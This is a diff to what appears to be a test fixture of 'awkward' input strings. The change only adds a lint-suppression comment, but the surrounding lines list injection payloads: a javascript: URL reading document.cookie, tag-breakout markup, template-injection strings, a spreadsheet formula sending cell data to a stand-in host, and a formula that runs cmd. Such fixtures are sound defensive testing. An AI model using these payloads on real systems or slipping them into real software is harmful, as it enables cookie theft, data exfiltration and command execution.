@@ -23,6 +23,7 @@ export const awkwardTexts = {
   'a link of code': 'javascript:alert(document.cookie)',
   'an entity': '&lt;b&gt; &amp;amp; &#x3c;script&#62; &nbsp;',
   'an end of text': '</textarea></title></svg></style><base href=//x.example>',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a text that looks like a template is the point
   template: '{{constructor.constructor "return process"}} {{{this}}} {{> field}} ${7*7} <%= 7*7 %>',
   'a formula': '=HYPERLINK("http://x.example?"&A1,"look")',
   'a formula after blanks': "  \t+1+cmd|'/C calc'!A0",
